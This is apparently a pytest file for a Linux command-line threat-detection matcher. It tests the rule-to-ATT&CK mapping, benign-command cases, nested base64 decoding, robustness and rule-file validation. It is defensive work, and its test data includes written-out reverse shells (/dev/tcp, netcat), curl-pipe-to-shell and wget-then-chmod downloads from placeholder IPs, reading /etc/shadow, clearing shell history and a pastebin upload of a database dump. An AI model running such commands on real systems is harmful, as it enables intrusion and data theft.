"""Risky command-line rules: the shipped rule file, user rule files and the matcher."""

from __future__ import annotations

import ast
import base64
import json
import re
from pathlib import Path

import pandas as pd
import pytest

from hunting.analysis.risky import (
    COLUMNS,
    ENCODED_RULE_ID,
    MATCH_CHARS,
    RiskRule,
    RuleError,
    load_rules,
    match_commands,
    max_severity,
)
from hunting.errors import HuntingError

RULES = load_rules()
BY_ID = {r.id: r for r in RULES}
MB = 1 << 20


def _hits(command: str, rules: list[RiskRule] | None = None) -> set[tuple[str, bool]]:
    found = match_commands(pd.Series([command]), rules)
    return set(zip(found["RuleId"], found["Decoded"], strict=True))


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# --- The shipped rules --------------------------------------------------------


def test_load_rules_covers_the_brief() -> None:
    expected = {
        "lnx.download_pipe_shell": "T1105, T1059.004",
        "lnx.download_chmod_exec": "T1105, T1059.004",
        "lnx.python_download": "T1105, T1059.006",
        "lnx.reverse_shell_dev_tcp": "T1059.004",
        "lnx.reverse_shell_netcat": "T1059.004",
        "lnx.reverse_shell_fifo": "T1059.004",
        "lnx.reverse_shell_socat": "T1059.004",
        "lnx.reverse_shell_python": "T1059.006",
        "lnx.reverse_shell_perl": "T1059",
        "lnx.reverse_shell_php": "T1059",
        "lnx.reverse_shell_ruby": "T1059",
        "lnx.ssh_authorized_keys": "T1098.004",
        "lnx.history_clear": "T1070.003",
        "lnx.base64_decode_shell": "T1140, T1059.004",
        "lnx.base64_decode": "T1140",
        "lnx.chmod_exec_tmp": "T1222.002",
        "lnx.exec_from_tmp": "T1059.004",
        "lnx.exec_hidden_dir": "T1564.001",
        "lnx.disable_audit": "T1562.012, T1562.001",
        "lnx.disable_firewall": "T1562.004",
        "lnx.disable_security_tools": "T1562.001",
        "lnx.disable_logging": "T1562.001, T1562.006",
        "lnx.read_shadow": "T1003.008",
        "lnx.fork_bomb": "T1499",
        "lnx.crontab_stdin": "T1053.003",
        "lnx.cron_file_write": "T1053.003",
        "lnx.privileged_group_add": "T1098",
        "lnx.user_create": "T1136.001",
        "lnx.password_change_other": "T1098",
        "lnx.sudoers_modify": "T1548.003",
        "lnx.ld_preload": "T1574.006",
        "lnx.setuid_bit": "T1548.001",
        "lnx.log_tamper": "T1070.002",
        "lnx.kernel_module_tmp": "T1547.006",
        "lnx.crypto_miner": "T1496",
        "lnx.systemd_unit_tmp": "T1543.002",
        "lnx.rc_local_write": "T1037.004",
        "lnx.shell_profile_write": "T1546.004",
    }
    assert {k: BY_ID[k].techniques for k in expected if k in BY_ID} == expected
    assert len(BY_ID) == len(RULES)  # ids unique
    assert ENCODED_RULE_ID in BY_ID


@pytest.mark.parametrize("rule", RULES, ids=lambda r: r.id)
def test_rule_examples(rule: RiskRule) -> None:
    assert rule.match_examples and rule.nomatch_examples
    texts = pd.Series([*rule.match_examples, *rule.nomatch_examples])
    found = set(match_commands(texts, [rule])["Row"])
    assert found == set(range(len(rule.match_examples)))
    # Python's re agrees with RE2 on every example, so the pattern means one thing.
    for i, text in enumerate(texts):
        assert bool(re.search(rule.pattern, text)) == (i < len(rule.match_examples)), text


@pytest.mark.parametrize("rule", RULES, ids=lambda r: r.id)
def test_rule_hostile_1mb_line(rule: RiskRule) -> None:
    # The start of a matching example repeated to 1 MB makes a backtracking engine
    # retry the pattern at every repeat; a real example at the end must still be found.
    example = rule.match_examples[0]
    unit = example[: max(1, len(example) // 2)]
    hostile = (unit * (MB // len(unit) + 1))[:MB] + " ; " + example
    found = match_commands(pd.Series([hostile]), [rule])
    assert found["Row"].tolist() == [0]
    assert len(found.loc[0, "Matched"]) <= MATCH_CHARS


@pytest.mark.parametrize(
    "command",
    [
        "apt update",
        "sudo apt-get upgrade -y",
        "systemctl restart nginx",
        "systemctl status auditd",
        "cat /etc/passwd",
        "chmod +x ./build.sh",
        "chmod +x /home/dev/project/build.sh",
        "curl -o file.tar.gz https://example.com/file.tar.gz",
        "wget https://example.com/pkg.deb",
        "crontab -l",
        "usermod -s /bin/zsh bob",
        "ls -la /tmp",
        "tail -f /var/log/syslog",
        "journalctl -u ssh --since today",
        "iptables -L -n -v",
        "ufw allow 443/tcp",
        "docker ps",
        "git clone https://github.com/org/repo.git",
        "ssh admin@db01",
        "python3 -m venv .venv",
        "/home/dev/.local/bin/black .",
        "echo $PATH",
        "sudo -l",
        "passwd",
        "kill -9 1234",
        "find / -name '*.conf' -mtime -1",
        "tar czf backup.tgz /etc",
    ],
)
def test_match_commands_benign_admin_commands(command: str) -> None:
    assert _hits(command) == set()


# --- The matcher ------------------------------------------------------------------


def test_match_commands_frame_shape_and_labels() -> None:
    commands = pd.Series(
        ["ls", "curl -s http://203.0.113.9/x | sh", None, "history -c; cat /etc/shadow"],
        index=["a", "b", "c", "d"],
    )
    found = match_commands(commands)
    assert list(found.columns) == list(COLUMNS)
    # Rows in input order; within a row, rules in file order.
    assert found[["Row", "RuleId", "Severity", "Techniques", "Matched", "Decoded"]].values.tolist() == [
        [
            "b",
            "lnx.download_pipe_shell",
            "high",
            "T1105, T1059.004",
            "curl -s http://203.0.113.9/x | sh",
            False,
        ],
        ["d", "lnx.read_shadow", "high", "T1003.008", "cat /etc/shadow", False],
        ["d", "lnx.history_clear", "high", "T1070.003", "history -c", False],
    ]
    assert found["Title"].iloc[0] == "Download piped into a shell or interpreter"
    assert str(found["Decoded"].dtype) == "boolean"


def test_match_commands_repeated_commands_reported_per_row() -> None:
    commands = pd.Series(["setenforce 0", "id", "setenforce 0"], index=[10, 20, 30])
    found = match_commands(commands)
    assert found["Row"].tolist() == [10, 30]
    assert set(found["RuleId"]) == {"lnx.disable_security_tools"}


def test_match_commands_empty_input() -> None:
    found = match_commands(pd.Series([], dtype="string"))
    assert found.empty
    assert list(found.columns) == list(COLUMNS)


def test_match_commands_non_text_values() -> None:
    found = match_commands(pd.Series([1, None, float("nan"), b"x", "ufw disable"], dtype=object))
    assert found["Row"].tolist() == [4]
    unhashable = pd.Series([["nc", "-e", "/bin/sh", "10.0.0.1"], {"a": 1}, "id"], dtype=object)
    assert match_commands(unhashable)["RuleId"].tolist() == ["lnx.reverse_shell_netcat"]


def test_match_commands_nul_bytes_and_surrogates() -> None:
    commands = pd.Series(
        [
            "bash -i >& /dev/tcp/10.0.0.1/4444\x000>&1",  # NUL-separated argv as in /proc/PID/cmdline
            "\udcff\udcfe curl http://x.example/a | sh",  # undecodable bytes kept by surrogateescape
            "\x00" * 100,
        ],
        dtype=object,  # pandas' own string dtype refuses surrogates
    )
    found = match_commands(commands)
    assert set(zip(found["Row"], found["RuleId"], strict=True)) == {
        (0, "lnx.reverse_shell_dev_tcp"),
        (1, "lnx.download_pipe_shell"),
    }


def test_match_commands_hostile_repeated_characters() -> None:
    rows = ["A" * MB, "/" * MB, " " * MB, "-" * MB, "|" * MB, "{" * MB, ":" * MB, "\x00" * MB]
    assert match_commands(pd.Series(rows)).empty


def test_match_commands_nested_base64_payload() -> None:
    shell = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
    inner = f"echo {_b64(shell)} | base64 -d | bash"
    command = f"python3 -c \"import base64,os;os.system(base64.b64decode('{_b64(inner)}'))\""
    found = match_commands(pd.Series([command]))
    assert set(zip(found["RuleId"], found["Decoded"], strict=True)) == {
        ("lnx.base64_decode", False),  # b64decode( in the outer command
        ("lnx.base64_decode", True),  # base64 -d in the first layer
        ("lnx.base64_decode_shell", True),  # ... | base64 -d | bash in the first layer
        ("lnx.reverse_shell_dev_tcp", True),  # the second layer
    }
    decoded = found[found["RuleId"] == "lnx.reverse_shell_dev_tcp"]
    assert decoded["Matched"].tolist() == ["/dev/tcp/10.0.0.1/4444"]


def test_match_commands_third_base64_layer_not_decoded() -> None:
    shell = "curl http://203.0.113.5/x | sh"
    layer1 = _b64(shell)
    layer2 = _b64(f"echo {layer1}")
    layer3 = _b64(f"echo {layer2}")
    assert ("lnx.download_pipe_shell", True) in _hits(f"/opt/app/run --blob {layer2}")
    assert ("lnx.download_pipe_shell", True) not in _hits(f"/opt/app/run --blob {layer3}")


def test_match_commands_base64_without_visible_decoder_reports_outer_rule() -> None:
    token = _b64("wget http://203.0.113.5/k -O /tmp/k && chmod +x /tmp/k")
    found = match_commands(pd.Series([f"/opt/agent/run --config {token}"]))
    assert set(zip(found["RuleId"], found["Decoded"], found["Matched"], strict=True)) == {
        ("lnx.download_chmod_exec", True, "wget http://203.0.113.5/k -O /tmp/k && chmod +x"),
        ("lnx.chmod_exec_tmp", True, "chmod +x /tmp/"),
        (ENCODED_RULE_ID, False, token),
    }


def test_match_commands_benign_base64_not_decoded_into_hits() -> None:
    token = _b64("hello world, this is only text")
    assert _hits(f"echo {token} | base64 -d") == {("lnx.base64_decode", False)}
    assert _hits(f"/opt/app --token {token}") == set()
    # Random bytes are not text: nothing to re-check.
    assert _hits("/opt/app --key " + base64.b64encode(bytes(range(256))).decode()) == set()


# --- Real logs --------------------------------------------------------------------


def test_match_commands_laurel_perl_reverse_shell(shared_data: Path) -> None:
    testdata = shared_data / "laurel" / "testdata"
    event = json.loads((testdata / "record-perl-reverse-shell.json").read_text())
    by_laurel = " ".join(event["EXECVE"]["ARGV"])
    raw = (testdata / "record-perl-reverse-shell.txt").read_text()
    a2 = re.search(r"type=EXECVE .* a2=([0-9A-F]+)", raw)
    assert a2 is not None
    by_hand = "perl -e " + bytes.fromhex(a2.group(1)).decode()
    assert by_hand == by_laurel
    found = match_commands(pd.Series([by_laurel]))
    assert found["RuleId"].tolist() == ["lnx.reverse_shell_perl"]
    assert found["Techniques"].tolist() == ["T1059"]


def test_match_commands_laurel_benign_execs(shared_data: Path) -> None:
    commands = []
    for name in ("record-execve.json", "record-execve-long.json", "record-weblogic.json"):
        event, _ = json.JSONDecoder().raw_decode((shared_data / "laurel" / "testdata" / name).read_text())
        commands.append(" ".join(event["EXECVE"]["ARGV"]))
    assert commands[0] == "whoami"
    assert match_commands(pd.Series(commands)).empty


def test_match_commands_msticpy_commands_are_benign(shared_data: Path) -> None:
    # grep -o 'COMMAND=[^,]*' msticpy/*.csv | wc -l -> 62 sudo commands (apt-get, crontab -l,
    # omsagent, netstat, vim rc.local, ...); grep -o "'EXECVE'" linux_events.csv | wc -l -> 82
    # Azure agent execs (iptables -C, ip link, test -f ...). None is an attack.
    folder = shared_data / "msticpy"
    commands = []
    for path in sorted(folder.glob("*.csv")):
        commands += re.findall(r"COMMAND=([^,\n]*)", path.read_text(encoding="utf-8-sig"))
    assert len(commands) == 62
    events = pd.read_csv(folder / "linux_events.csv")
    for message in events["AuditdMessage"]:
        for record in ast.literal_eval(message):
            if "EXECVE" in record:
                args = []
                for field in record["EXECVE"]:
                    key, _, value = field.partition("=")
                    if re.fullmatch(r"a\d+", key):
                        args.append(value[1:-1] if value.startswith('"') else bytes.fromhex(value).decode())
                commands.append(" ".join(args))
    assert len(commands) == 62 + 82
    assert (
        "iptables -w -t security -C OUTPUT -d 168.63.129.16 -p tcp -m conntrack --ctstate INVALID,NEW -j DROP"
        in commands
    )
    assert match_commands(pd.Series(commands)).empty


# --- max_severity -------------------------------------------------------------------


def test_max_severity_per_row() -> None:
    commands = pd.Series(["useradd x", "useradd -o -u 0 x", "ls", "chmod +x /tmp/a"], index=[5, 6, 7, 8])
    found = match_commands(commands)
    worst = max_severity(found, commands.index)
    assert worst.index.tolist() == [5, 6, 7, 8]
    assert worst.tolist()[:2] == ["medium", "high"]
    assert pd.isna(worst[7])
    assert worst[8] == "medium"
    assert max_severity(found.iloc[0:0]).empty


# --- User rule files ---------------------------------------------------------------


GOOD_RULE = """
- id: site.backup_exfil
  title: Backup sent to a paste site
  severity: low
  tags: [attack.t1567]
  pattern: '\\bcurl\\b[^\\n]*pastebin\\.com'
  examples:
    match: ['curl -F f=@db.sql https://pastebin.com/api']
    nomatch: ['curl https://example.com']
"""


def _user_file(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "mine.yaml"
    path.write_text(text)
    return path


def test_load_rules_user_file_added(tmp_path: Path) -> None:
    rules = load_rules(extra=[_user_file(tmp_path, GOOD_RULE)])
    assert len(rules) == len(RULES) + 1
    assert rules[-1].id == "site.backup_exfil"
    assert rules[-1].techniques == "T1567"
    found = match_commands(pd.Series(["curl -F f=@db.sql https://pastebin.com/api"]), rules)
    assert found["RuleId"].tolist() == ["site.backup_exfil"]


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (("pattern: '\\bcurl\\b[^\\n]*pastebin\\.com'", "pattern: 'curl[unclosed'"), "does not compile"),
        (("pattern: '\\bcurl\\b[^\\n]*pastebin\\.com'", "pattern: 'curl(?=x)'"), "not RE2 syntax"),
        (("pattern: '\\bcurl\\b[^\\n]*pastebin\\.com'", "pattern: '(curl)'"), "capturing group"),
        (("severity: low", "severity: critical"), "severity 'critical'"),
        (("tags: [attack.t1567]", "tags: [exfiltration]"), "tag 'exfiltration'"),
        (("id: site.backup_exfil", "id: Backup Exfil"), "id 'Backup Exfil'"),
        (("id: site.backup_exfil", "id: lnx.fork_bomb"), "duplicate rule id"),
        (("https://example.com']", "https://pastebin.com/x']"), "matches its nomatch example"),
        (("nomatch: ['curl https://example.com']", "nomatch: []"), "examples needs"),
        (("  severity: low\n", "  severity: low\n  color: red\n"), "unknown keys: color"),
    ],
)
def test_load_rules_bad_user_rule(tmp_path: Path, change: tuple[str, str], message: str) -> None:
    assert change[0] in GOOD_RULE
    path = _user_file(tmp_path, GOOD_RULE.replace(*change))
    with pytest.raises(RuleError, match=re.escape(message)) as info:
        load_rules(extra=[path])
    assert str(path) in str(info.value)
    assert isinstance(info.value, HuntingError)


def test_load_rules_bad_user_rule_names_rule(tmp_path: Path) -> None:
    path = _user_file(tmp_path, GOOD_RULE.replace("pastebin\\.com'", "pastebin\\.com('"))
    assert "('" in path.read_text()
    with pytest.raises(RuleError, match=r"mine\.yaml: rule site\.backup_exfil: pattern does not compile"):
        load_rules(extra=[path])


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("id: x\n", "YAML list"),
        ("- [1, 2\n", "not valid YAML"),
        ("- just text\n", "each rule must be a mapping"),
        ("- id: site.x\n  title: t\n", "missing keys"),
    ],
)
def test_load_rules_bad_user_file(tmp_path: Path, text: str, message: str) -> None:
    with pytest.raises(RuleError, match=message):
        load_rules(extra=[_user_file(tmp_path, text)])


def test_load_rules_missing_user_file(tmp_path: Path) -> None:
    with pytest.raises(RuleError, match="cannot read rule file"):
        load_rules(extra=[tmp_path / "absent.yaml"])


def test_risk_rule_rejects_invalid_fields() -> None:
    base = {"id": "site.x", "title": "X", "severity": "low", "tags": ("attack.t1059",), "pattern": "x"}
    RiskRule(**base)  # type: ignore[arg-type]
    for field, value in [("severity", "HIGH"), ("tags", ()), ("tags", ("attack.t10",)), ("pattern", "")]:
        with pytest.raises(ValueError):
            RiskRule(**{**base, field: value})  # type: ignore[arg-type]


def test_risk_rule_search_uses_rule_pattern() -> None:
    rule = BY_ID["lnx.crypto_miner"]
    assert rule.search("nohup ./XMRig -o x") == "XMRig"
    assert rule.search("top") is None
